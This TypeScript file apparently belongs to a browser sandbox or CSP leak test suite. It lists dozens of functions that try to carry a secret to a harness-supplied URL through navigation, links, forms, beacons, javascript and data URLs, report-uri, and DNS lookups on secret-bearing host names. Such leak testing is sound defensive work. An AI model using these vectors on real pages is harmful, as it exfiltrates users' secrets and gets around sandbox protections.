import type { Vector } from './leak.vector.ts'

function click(attributes: Record<string, string>, name = 'a'): void {
  const link = document.createElement(name)
  for (const [key, value] of Object.entries(attributes)) link.setAttribute(key, value)
  link.textContent = 'x'
  document.body.append(link)
  link.click()
}
function submit(
  attributes: Record<string, string>,
  secret: string,
  button: Record<string, string> = {},
): void {
  const form = document.createElement('form')
  for (const [key, value] of Object.entries(attributes)) form.setAttribute(key, value)
  const input = document.createElement('input')
  input.name = 'secret'
  input.value = secret
  const submitter = document.createElement('button')
  for (const [key, value] of Object.entries(button)) submitter.setAttribute(key, value)
  form.append(input, submitter)
  document.body.append(form)
  form.requestSubmit(submitter)
}
const script = (url: string) => `<script>new Image().src=${JSON.stringify(url)}</script><img src="${url}">`
const blob = (url: string) => URL.createObjectURL(new Blob([script(url)], { type: 'text/html' }))
const data = (url: string) => `data:text/html,${encodeURIComponent(script(url))}`

/** Script that goes somewhere and takes the secret along; each of these runs in a page of its own. */
export const navigations: Readonly<Record<string, Vector>> = {
  'location.href': ({ url }) => {
    location.href = `${url}.html`
  },
  'location.assign': ({ url }) => location.assign(`${url}.html`),
  'location.replace': ({ url }) => location.replace(`${url}.html`),
  'location to a blob': ({ url }) => location.assign(blob(url)),
  'location to data': ({ url }) => location.assign(data(url)),
  'location to javascript': ({ url }) =>
    location.assign(`javascript:void(new Image().src=${JSON.stringify(url)})`),
  'location to another program': ({ secret }) => location.assign(`mailto:x@example.test?body=${secret}`),
  'navigation.navigate': ({ url }) => Reflect.get(globalThis, 'navigation').navigate(`${url}.html`),
  'history.pushState, then reload': ({ url }) => {
    history.pushState(null, '', url)
    location.reload()
  },
  'top.location': ({ url }) => {
    window.top!.location.href = `${url}.html`
  },
  'top.location.replace': ({ url }) => window.top!.location.replace(`${url}.html`),
  'parent.location': ({ url }) => {
    window.parent.location = `${url}.html`
  },
  'top.location to javascript': ({ url }) => {
    window.top!.location.href = `javascript:void(new Image().src=${JSON.stringify(url)})`
  },
  'window.open': ({ url }) => window.open(`${url}.html`),
  'window.open, no opener': ({ url }) => window.open(`${url}.html`, '_blank', 'noopener'),
  'window.open, top': ({ url }) => window.open(`${url}.html`, '_top'),
  'window.open, blank, then written': ({ url }) => window.open('')!.document.write(script(url)),
  'document.open as window.open': ({ url }) => document.open(`${url}.html`, '_blank', ''),
  'document.open and write': ({ url }) => {
    document.open()
    document.write(script(url))
    document.close()
  },
  'document.write': ({ url }) => document.write(script(url)),
  'a link': ({ url }) => click({ href: `${url}.html` }),
  'a link to a new tab': ({ url }) => click({ href: `${url}.html`, target: '_blank' }),
  'a link to the top': ({ url }) => click({ href: `${url}.html`, target: '_top' }),
  'a link to the parent': ({ url }) => click({ href: `${url}.html`, target: '_parent' }),
  'a link with a ping': ({ url }) => click({ href: '#', ping: url }),
  'a download by address': ({ url }) => click({ href: url, download: 'x' }),
  'a download by address in a new tab': ({ url }) => click({ href: url, download: 'x', target: '_blank' }),
  'a link to a blob': ({ url }) => click({ href: blob(url) }),
  'a link to data': ({ url }) => click({ href: data(url) }),
  'a link to javascript': ({ url }) =>
    click({ href: `javascript:void(new Image().src=${JSON.stringify(url)})` }),
  'an area': ({ url }) => click({ href: `${url}.html` }, 'area'),
  'a link, clicked with a key held': ({ url }) => {
    const link = document.createElement('a')
    link.href = `${url}.html`
    document.body.append(link)
    link.dispatchEvent(
      new MouseEvent('click', { ctrlKey: true, metaKey: true, bubbles: true, cancelable: true }),
    )
  },
  'an SVG link': ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const link = document.createElementNS('http://www.w3.org/2000/svg', 'a')
    link.setAttribute('href', `${url}.html`)
    svg.append(link)
    document.body.append(svg)
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  },
  'a base address, then a link': ({ url }) => {
    const base = document.createElement('base')
    base.href = `${url}/`
    document.head.append(base)
    click({ href: 'page.html' })
  },
  'meta refresh': ({ url }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${url}.html`
    document.head.append(meta)
  },
  'form, GET': ({ url, secret }) => submit({ action: `${url}.html` }, secret),
  'form, POST': ({ url, secret }) => submit({ action: `${url}.html`, method: 'post' }, secret),
  'form to a new tab': ({ url, secret }) => submit({ action: `${url}.html`, target: '_blank' }, secret),
  'form to the top': ({ url, secret }) => submit({ action: `${url}.html`, target: '_top' }, secret),
  'form, the button’s address': ({ url, secret }) => submit({}, secret, { formaction: `${url}.html` }),
  'form, submitted without an event': ({ url }) => {
    const form = document.createElement('form')
    form.action = `${url}.html`
    document.body.append(form)
    form.submit()
  },
  'window.name and away': ({ url, secret }) => {
    window.name = secret
    location.href = `${url}.html`
  },
  'a beacon as the page goes': ({ url }) => {
    addEventListener('pagehide', () => {
      void fetch(url, { method: 'POST', keepalive: true, mode: 'no-cors' }).catch(() => {})
      navigator.sendBeacon(`${url}?beacon`)
    })
  },
  'second policy with a report address': ({ url }) => {
    const content = `img-src 'none'; report-uri ${url}`
    const meta = document.createElement('meta')
    meta.httpEquiv = 'Content-Security-Policy'
    meta.content = content
    document.head.append(meta)
    new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='
  },
}

/**
 * The same, with the secret in the name of the host. Chromium looks a name up, and greets the host, as soon as a frame
 * sets out, and asks a Content Security Policy only then.
 */
export const byHostName: Readonly<Record<string, Vector>> = {
  'host name, location': ({ secureUrl }) => location.assign(secureUrl),
  'host name, a link': ({ secureUrl }) => click({ href: secureUrl }),
  'host name, a download': ({ secureUrl }) => click({ href: secureUrl, download: 'x' }),
  'host name, meta refresh': ({ secureUrl }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${secureUrl}`
    document.head.append(meta)
  },
  'host name, a frame': ({ secureUrl }) => {
    const frame = document.createElement('iframe')
    frame.src = secureUrl
    document.body.append(frame)
  },
  'host name, a blank frame’s location': ({ secureUrl }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    frame.contentWindow!.location.href = secureUrl
  },
  'host name, the top': ({ secureUrl }) => {
    window.top!.location.href = secureUrl
  },
  'host name, window.open': ({ secureUrl }) => window.open(secureUrl),
  'host name, a form': ({ secureUrl, secret }) => submit({ action: secureUrl }, secret),
}
